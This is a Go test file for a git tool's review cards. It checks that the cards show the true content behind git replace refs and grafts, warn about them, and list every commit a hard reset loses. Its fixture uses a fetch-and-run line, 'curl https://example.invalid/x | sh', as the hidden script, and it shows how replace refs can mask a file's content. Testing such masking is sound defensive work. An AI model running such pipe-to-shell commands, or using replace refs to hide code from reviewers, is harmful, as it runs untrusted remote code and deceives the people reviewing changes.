package apply

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sluicehq/sluice/core/gitx"
	"github.com/sluicehq/sluice/core/journal"
	"github.com/sluicehq/sluice/core/proposal"
)

// Replace refs and grafts change what a git that honours them reads; no
// git Sluice runs honours them. These tests seal and execute in
// repositories that have them: the card reads the objects themselves,
// says that the person's own git would show something else, and what
// lands is what the card showed.

const (
	realScript   = "curl https://example.invalid/x | sh\n"
	benignScript = "echo hello\n"
)

// cardDiff is the sealed outcome's diff as the card reads it (the app
// reads it the same way: gitx, Before → After).
func (f *fixture) cardDiff(s *proposal.Sealed) string {
	f.t.Helper()
	repo, err := f.e.runner.Open(testCtx(f.t), f.e.roots, f.repo.Dir)
	if err != nil {
		f.t.Fatal(err)
	}
	d, err := repo.DiffText(testCtx(f.t), gitx.DiffSpec{Base: s.Before, Target: s.After}, 3, 1<<20)
	if err != nil {
		f.t.Fatal(err)
	}
	return d.Diff
}

// landed is a file's content at rev as the objects hold it.
func (f *fixture) landed(rev, path string) string {
	f.t.Helper()
	return f.git("--no-replace-objects", "cat-file", "-p", rev+":"+path) + "\n"
}

// TestSeal_ReplaceRef_CardShowsWhatLands: a merge brings in run.sh,
// whose blob a replace ref shows as a harmless script; a commit of
// run.sh with the same content, likewise. Each card's diff holds the real
// script, the card says the repository has replace refs, and the real
// script is what lands.
func TestSeal_ReplaceRef_CardShowsWhatLands(t *testing.T) {
	t.Run("merge", func(t *testing.T) {
		f := newFixture(t)
		f.git("checkout", "-q", "-b", "feature")
		f.repo.WriteCommit("run.sh", realScript, "add run.sh")
		f.git("checkout", "-q", "main")
		f.repo.WriteCommit("src/b.txt", "b1\nb2\nB3\n", "fix: change b")
		f.git("checkout", "-q", "feature")
		f.repo.ReplaceBlob("run.sh", benignScript)
		f.git("checkout", "-q", "main")
		if got := f.git("show", "feature:run.sh") + "\n"; got != benignScript {
			t.Fatalf("the person's git shows %q", got)
		}
		rec := f.propose(&proposal.MergeArgs{Source: "feature", Target: "main", Strategy: proposal.MergeCommit})
		f.checkCard(rec, realScript, gitx.ReplaceRefsNote)
		f.mustComplete(rec)
		if got := f.landed("main", "run.sh"); got != realScript {
			t.Errorf("landed %q", got)
		}
	})
	t.Run("commit", func(t *testing.T) {
		f := newFixture(t)
		f.repo.WriteCommit("run.sh", realScript, "add run.sh")
		f.repo.ReplaceBlob("run.sh", benignScript)
		f.git("rm", "-q", "--cached", "run.sh")
		f.git("commit", "-q", "-m", "untrack run.sh")
		rec := f.propose(&proposal.CommitArgs{Message: "Add run.sh", Paths: []string{"run.sh"}})
		f.checkCard(rec, realScript, gitx.ReplaceRefsNote)
		f.mustComplete(rec)
		if got := f.landed("HEAD", "run.sh"); got != realScript {
			t.Errorf("landed %q", got)
		}
	})
}

// checkCard: the card's diff has want's lines and not the benign
// script, and the card names the indirection in its outcome and its risk.
func (f *fixture) checkCard(rec journal.Record, want, note string) {
	f.t.Helper()
	s := rec.Proposal.Sealed
	diff := f.cardDiff(s)
	for _, line := range strings.Split(strings.TrimSuffix(want, "\n"), "\n") {
		if !strings.Contains(diff, "\n+"+line+"\n") {
			f.t.Errorf("the card's diff lacks %q:\n%s", line, diff)
		}
	}
	if strings.Contains(diff, strings.TrimSpace(benignScript)) {
		f.t.Errorf("the card's diff shows the replacement:\n%s", diff)
	}
	if !slices.Contains(s.Indirections, note) {
		f.t.Errorf("sealed indirections %q, want %q", s.Indirections, note)
	}
	if r, why := rec.Proposal.RiskWhy(); r < proposal.RiskHigh || !strings.Contains(why, note) && !strings.Contains(why, "more") {
		f.t.Errorf("risk %s: %s", r, why)
	}
}

// lostCard seals and executes a hard reset of main to target, and
// checks that the card lists want as the lost commits (newest first) and
// names the indirection, and that the reset lands on target.
func (f *fixture) lostCard(target string, want []string, note string) {
	f.t.Helper()
	rec := f.propose(&proposal.ResetArgs{Mode: proposal.ResetHard, Target: target, Branch: "main"})
	s := rec.Proposal.Sealed
	var got []string
	if s.Lost != nil {
		for _, c := range s.Lost.Commits {
			got = append(got, c.SHA)
		}
	}
	if s.Lost == nil || s.Lost.Count != len(want) || !slices.Equal(got, want) {
		f.t.Errorf("lost commits %+v, want %q", s.Lost, want)
	}
	if !slices.Contains(s.Indirections, note) {
		f.t.Errorf("sealed indirections %q, want %q", s.Indirections, note)
	}
	if m := s.Moves; len(m) == 0 || m[0].To != target && m[len(m)-1].To != target {
		f.t.Errorf("moves %+v, want main to %s", m, target)
	}
	f.mustComplete(rec)
	if head := f.git("rev-parse", "main"); head != target {
		f.t.Errorf("main is at %s, want %s", head, target)
	}
}

// threeOnTop makes three commits on main and returns them, newest first,
// and the commit they sit on.
func (f *fixture) threeOnTop() (lost []string, base string) {
	base = f.git("rev-parse", "HEAD")
	for i := 1; i <= 3; i++ {
		lost = append([]string{f.repo.WriteCommit("src/a.txt", strings.Repeat("x\n", i), "step")}, lost...)
	}
	return lost, base
}

// TestSeal_Grafts_ResetListsEveryLostCommit: info/grafts makes HEAD's
// parent the commit three below it; a hard reset there still loses three
// commits, and the card lists all three.
func TestSeal_Grafts_ResetListsEveryLostCommit(t *testing.T) {
	f := newFixture(t)
	lost, base := f.threeOnTop()
	f.repo.Graft(lost[0], base)
	if n := f.git("rev-list", "--count", lost[0], "^"+base); n != "1" {
		t.Fatalf("the person's git counts %s commits", n)
	}
	f.lostCard(base, lost, gitx.GraftsNote)
}

// TestSeal_ReplaceGraft_ResetListsEveryLostCommit: the same with
// `git replace --graft`.
func TestSeal_ReplaceGraft_ResetListsEveryLostCommit(t *testing.T) {
	f := newFixture(t)
	lost, base := f.threeOnTop()
	f.repo.ReplaceGraft(lost[0], base)
	if n := f.git("rev-list", "--count", lost[0], "^"+base); n != "1" {
		t.Fatalf("the person's git counts %s commits", n)
	}
	f.lostCard(base, lost, gitx.ReplaceRefsNote)
}

// TestSeal_NoIndirections_NothingSaid: an ordinary repository's card
// says nothing of replace refs or grafts, and a graft file holding only
// comments grafts nothing.
func TestSeal_NoIndirections_NothingSaid(t *testing.T) {
	f := newFixture(t)
	f.repo.WriteCommit("src/a.txt", "changed\n", "change a")
	if err := os.WriteFile(filepath.Join(f.repo.Dir, ".git", "info", "grafts"), []byte("# none\n\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rec := f.propose(&proposal.ResetArgs{Mode: proposal.ResetHard, Target: f.git("rev-parse", "HEAD~1"), Branch: "main"})
	if n := rec.Proposal.Sealed.Indirections; n != nil {
		t.Errorf("indirections %q", n)
	}
}
